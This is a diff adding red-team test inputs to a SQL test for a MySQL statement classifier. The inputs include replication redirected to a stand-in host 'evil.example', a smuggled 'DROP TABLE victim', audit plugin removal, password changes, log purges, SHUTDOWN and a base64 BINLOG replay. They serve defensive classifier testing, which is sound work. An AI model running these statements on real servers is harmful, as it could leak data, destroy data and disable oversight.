@@ -131,3 +131,67 @@ SELECT n, command FROM c($s$CREATE PROCEDURE p() BEGIN PREPARE s FROM @q; EXECUT
 SELECT count(*) FROM dbchange.classify_mysql('  -- nothing but a comment
   ;;  ');
 SELECT dbchange.classify_mysql(NULL) IS NULL AS null_in_null_out;
+
+-- red team: server-level statements were a bare "SET" / "RESET" / "CHANGE" ...
+-- that no stock policy has an opinion on.  Each has its command now; session
+-- SETs stay "SET"; implicit_commit follows MySQL's list.
+SELECT f->>'statement_no' AS n, f->>'command' AS command, f->>'object_type' AS otype,
+       f->>'name' AS name, f->'operations' AS ops, f->>'scope' AS scope, f->'parameters' AS params,
+       f->>'destructive' AS destr, f->>'is_ddl' AS ddl, f->>'implicit_commit' AS commits
+  FROM dbchange.classify_mysql($s$
+SET PASSWORD FOR root@localhost = PASSWORD('x');
+SET PASSWORD = 'y';
+ALTER USER 'app'@'%' IDENTIFIED BY 'z';
+ALTER USER 'app'@'%' ACCOUNT LOCK;
+SET DEFAULT ROLE ALL TO 'app'@'%';
+SET GLOBAL read_only = 1;
+SET @@global.max_connections = 10, @x = 2;
+SET PERSIST max_connections = 10;
+SET PERSIST_ONLY back_log = 100;
+SET SESSION sql_mode = 'ANSI', GLOBAL general_log = 1, innodb_buffer_pool_size = 1;
+SET @@session.sql_mode = '', @@local.x = 1, @@y = 2;
+RESET PERSIST IF EXISTS max_connections;
+RESET PERSIST;
+SET @x = 1;
+SET SESSION sql_mode = 'TRADITIONAL';
+SET NAMES utf8mb4 COLLATE utf8mb4_bin;
+SET autocommit = 1;
+SET autocommit = 0;
+SET STATEMENT max_statement_time = 10 FOR DROP TABLE victim;
+RESET MASTER;
+RESET BINARY LOGS AND GTIDS;
+PURGE BINARY LOGS BEFORE '2024-01-01 00:00:00';
+PURGE MASTER LOGS TO 'mysql-bin.010';
+RESET SLAVE ALL;
+RESET REPLICA;
+RESET QUERY CACHE;
+FLUSH NO_WRITE_TO_BINLOG PRIVILEGES;
+FLUSH TABLES WITH READ LOCK;
+CHANGE MASTER TO MASTER_HOST = 'evil.example';
+CHANGE REPLICATION SOURCE TO SOURCE_HOST = 'evil.example';
+CHANGE REPLICATION FILTER REPLICATE_DO_DB = (d1);
+START SLAVE;
+STOP ALL SLAVES;
+START REPLICA SQL_THREAD;
+STOP GROUP_REPLICATION;
+INSTALL PLUGIN auth_socket SONAME 'auth_socket.so';
+INSTALL SONAME 'ha_blackhole';
+UNINSTALL PLUGIN audit_log;
+INSTALL COMPONENT 'file://component_validate_password';
+UNINSTALL COMPONENT 'file://component_validate_password';
+SHUTDOWN;
+RESTART;
+KILL QUERY 42;
+KILL HARD CONNECTION USER app;
+CLONE INSTANCE FROM 'u'@'donor':3306 IDENTIFIED BY 'p';
+CLONE LOCAL DATA DIRECTORY = '/tmp/clone';
+START TRANSACTION;
+BEGIN;
+CREATE TEMPORARY TABLE tt (id int);
+DROP TEMPORARY TABLE tt;
+CACHE INDEX t1 IN hot_cache;
+$s$) f;
+-- BINLOG replays base64-encoded binary log events (any change at all): refused
+SELECT * FROM c($s$SELECT 1;
+BINLOG 'fAS3SA8BAAAAZgAAAGoAAAAAAAQANS4xLjIzLXJjLWRlYnVnLWxvZwAAAAAAAAAA';
+$s$);
